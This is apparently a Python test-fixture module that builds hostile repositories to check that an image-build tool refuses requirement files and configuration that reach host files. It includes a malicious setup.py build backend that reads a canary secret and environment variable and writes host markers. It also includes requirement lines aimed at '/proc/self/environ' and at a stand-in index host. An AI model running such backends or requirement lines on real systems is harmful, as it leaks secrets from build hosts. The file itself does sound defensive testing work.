"""Hostile revisions for ``orchestrator image build``: requirement files and
configuration that name host files, index lines of the tree's own, and an sdist whose
build backend goes looking for the host's secrets.

The CLI runs with the canary variable in its environment and the host's own ``PIP_*``
variables gone (wheels come from the caller's folders only, through ``PIP_FIND_LINKS``,
which the tool reads); a canary file on the host stands for any file no tree may read."""

from __future__ import annotations

import io
import os
import tarfile
import tempfile
import textwrap
from pathlib import Path

from hostile_repo import CANARY, CANARY_NAME, git, write_and_commit

ROOT = Path(__file__).resolve().parents[2]
CACHE = ROOT / ".cache" / "wheelhouse"
HOST_FILE_CANARY = "host-file-canary-7d41e0-never-read"
PROJECT = "hostileproj"
PYPROJECT = f'[project]\nname = "{PROJECT}"\nversion = "0"\n'


def host_secret_file(root: Path) -> Path:
    """A file on the host that no tree may have read."""
    secret = root / "host" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(f"{HOST_FILE_CANARY}\n")
    return secret


def image_build_args(repo: Path, rev: str, *args: str) -> list[str]:
    return ["-v", "--log-format", "console", "image", "build", "--repo", str(repo),
            "--rev", rev, "--json", *args]  # fmt: skip


def image_build_env(wheels: Path | None = None) -> dict[str, str]:
    """This process's environment without ``PIP_*`` and the image network, with the
    canary, the test's wheel folders and no index."""
    env = {key: value for key, value in os.environ.items() if not key.startswith("PIP_")}
    folders = [folder for folder in (wheels, CACHE) if folder is not None and folder.is_dir()]
    if not folders:  # before `make wheelhouse` (make test-fast): the refusals need no wheel
        folders = [Path(tempfile.mkdtemp(prefix="no-wheels-"))]
    links = " ".join(str(folder) for folder in folders)
    env.update({CANARY_NAME: CANARY, "PIP_FIND_LINKS": links, "PIP_NO_INDEX": "1", "CI": "1"})
    env.pop("ORCHESTRATOR_IMAGE_NETWORK", None)
    return env


def new_repo(root: Path, files: dict[str, str]) -> tuple[Path, str]:
    repo = root / "repo"
    repo.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    return repo, write_and_commit(repo, {"pyproject.toml": PYPROJECT, **files}, "base")


def table(requirements: str) -> str:
    return f"{PYPROJECT}\n[tool.orchestrator.image-build]\nrequirements = {requirements}\n"


# ---------------------------------------------------------------- files out of the tree

# A line of requirements.txt (after "pluggy") naming a host file, and what the refusal
# says ({secret}: the canary file, {secret_folder}: its folder).
REQUIREMENT_ATTACKS = [
    ("-r /proc/self/environ", "requirements.txt:2: '/proc/self/environ' is an absolute path"),
    ("-r {secret}", "requirements.txt:2: '{secret}' is an absolute path"),
    ("-c {secret}", "requirements.txt:2: '{secret}' is an absolute path"),
    ("--requirement=../../host/secret.txt", "'../../host/secret.txt' leaves the repository"),
    ("-e {secret_folder}", "is an editable requirement"),
    ("{secret_folder}", "is a local path requirement"),
]


def requirements_attack_repo(root: Path, attack: str, secret: Path) -> tuple[Path, str]:
    values = {"secret": str(secret), "secret_folder": str(secret.parent)}
    return new_repo(
        root,
        {
            "pyproject.toml": table('["requirements.txt"]'),
            "requirements.txt": f"pluggy\n{attack.format(**values)}\n",
        },
    )


# The tree's configuration naming a host file, and what the refusal says.
CONFIG_ATTACKS = [
    ({"pyproject.toml": table('["{secret}"]')},
     "[tool.orchestrator.image-build].requirements: '{secret}' is an absolute path"),
    ({"pyproject.toml": table('["../host/secret.txt"]')},
     "'../host/secret.txt' leaves the repository"),
    ({"pyproject.toml": PYPROJECT.replace('version = "0"\n', 'version = "0"\n'
      'dynamic = ["dependencies"]\n') + '[tool.setuptools.dynamic]\n'
      'dependencies = {{file = ["{secret}"]}}\n'},
     "[tool.setuptools.dynamic].dependencies.file: '{secret}' is an absolute path"),
]  # fmt: skip


def config_attack_repo(root: Path, files: dict[str, str], secret: Path) -> tuple[Path, str]:
    return new_repo(root, {name: text.format(secret=secret) for name, text in files.items()})


def linked_requirements_repo(root: Path, secret: Path) -> tuple[Path, str]:
    """A committed ``requirements.txt`` that is a symbolic link to ``secret`` (in the
    checkout and in git), named by the tree's table."""
    repo, _ = new_repo(root, {"pyproject.toml": table('["requirements.txt"]')})
    (repo / "requirements.txt").symlink_to(secret)
    return repo, write_and_commit(repo, {}, "a link to the host's secret")


# ---------------------------------------------------------------- builds (real engine)

# An sdist whose build backend runs setup.py: it looks for the host's secrets and tries
# to leave a marker where the host would see it, then ships what it saw in its wheel.
EVIL_SETUP = """\
import os
from setuptools import setup

seen = {{"env": os.environ.get({canary_name!r}), "uid": os.getuid()}}
try:
    seen["file"] = open({secret!r}).read()
except OSError as error:
    seen["file"] = None
for marker in ({tmp_marker!r}, {host_marker!r}):
    try:
        with open(marker, "w") as handle:
            handle.write("written by a build backend")
    except OSError:
        pass
with open("evilsdist_seen.py", "w") as module:
    module.write("SEEN = %r\\n" % (seen,))
setup(name="evilsdist", version="1.0", py_modules=["evilsdist_seen"])
"""
EVIL_PYPROJECT = """\
[build-system]
requires = ["setuptools>=70.1"]
build-backend = "setuptools.build_meta"
"""


def evil_sdist(folder: Path, **values: str) -> Path:
    folder.mkdir(parents=True)
    files = {
        "setup.py": EVIL_SETUP.format(**values),
        "pyproject.toml": EVIL_PYPROJECT,
        "PKG-INFO": "Metadata-Version: 2.1\nName: evilsdist\nVersion: 1.0\n",
    }
    sdist = folder / "evilsdist-1.0.tar.gz"
    with tarfile.open(sdist, "w:gz") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"evilsdist-1.0/{name}")
            info.size = len(data)
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    return folder


def evil_pull_request(root: Path) -> tuple[Path, str, str]:
    """A repository whose branch ``pr`` depends on the evil sdist and names an index of
    its own in every way a requirement file can: (repository, main, the pull request)."""
    repo, main = new_repo(root, {"tests/test_ok.py": "def test_ok():\n    assert True\n"})
    git(repo, "checkout", "-q", "-b", "pr")
    pull_request = write_and_commit(
        repo,
        {
            "pyproject.toml": PYPROJECT.replace('version = "0"\n', 'version = "0"\n'
                                                'dependencies = ["evilsdist"]\n')
            + '\n[tool.orchestrator.image-build]\nrequirements = ["requirements.txt"]\n',
            "requirements.txt": textwrap.dedent("""\
                --index-url http://canary-index.invalid/simple
                --trusted-host canary-index.invalid
                --extra-index-url=http://canary-index.invalid/extra
                -f http://canary-index.invalid/links
                pytest
                """),
        },
        "a pull request with a build backend of its own",
    )  # fmt: skip
    git(repo, "checkout", "-q", "main")
    return repo, main, pull_request
